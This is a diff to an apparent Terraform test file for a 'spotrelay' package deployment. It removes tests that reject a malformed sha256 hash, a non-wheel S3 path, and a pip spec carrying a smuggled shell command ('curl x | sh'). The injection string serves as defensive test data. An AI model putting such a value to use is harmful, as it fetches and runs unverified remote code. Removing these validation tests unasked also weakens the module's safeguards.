@@ -356,14 +356,6 @@ run "rejects_zero_routers" {
   expect_failures = [var.router_count]
 }
 
-run "rejects_quote_in_pip_spec" {
-  command = plan
-  variables {
-    spotrelay_pip_spec = "spotrelay'; curl x | sh; '"
-  }
-  expect_failures = [var.spotrelay_pip_spec]
-}
-
 run "package_as_a_pypi_version_pinned_by_hash" {
   command = apply
 
@@ -399,24 +391,4 @@ run "package_as_a_wheel_in_s3" {
     condition     = anytrue([for f in yamldecode(output.user_data).write_files : f.path == "/usr/local/sbin/spotrelay-fetch-package" && strcontains(f.content, "sha256sum")])
     error_message = "cloud-init writes the fetcher that checks the sha256."
   }
-}
-
-run "rejects_a_malformed_hash" {
-  command = plan
-
-  variables {
-    spotrelay_sha256 = "abc"
-  }
-
-  expect_failures = [var.spotrelay_sha256]
-}
-
-run "rejects_s3_package_that_is_not_a_wheel" {
-  command = plan
-
-  variables {
-    spotrelay_pip_spec = "s3://my-artifacts/spotrelay/"
-  }
-
-  expect_failures = [var.spotrelay_pip_spec]
 }
